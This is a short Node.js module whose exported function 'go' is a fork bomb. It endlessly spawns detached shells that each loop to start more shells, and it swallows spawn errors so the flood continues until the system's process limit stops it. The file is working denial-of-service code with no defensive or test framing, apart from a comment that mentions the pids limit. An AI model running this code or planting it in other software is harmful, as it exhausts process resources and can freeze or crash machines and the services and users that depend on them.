import { spawn } from 'node:child_process';

// Shells that start shells, faster than anything ends, until the pids limit holds them.
export const go = async () => {
  for (;;) {
    try {
      const child = spawn('/bin/sh', ['-c', 'while :; do /bin/sh -c "sleep 30" & done'], { stdio: 'ignore', detached: true });
      child.on('error', () => {});
    } catch (e) { /* EAGAIN: again */ }
    await new Promise((resolve) => setImmediate(resolve));
  }
};
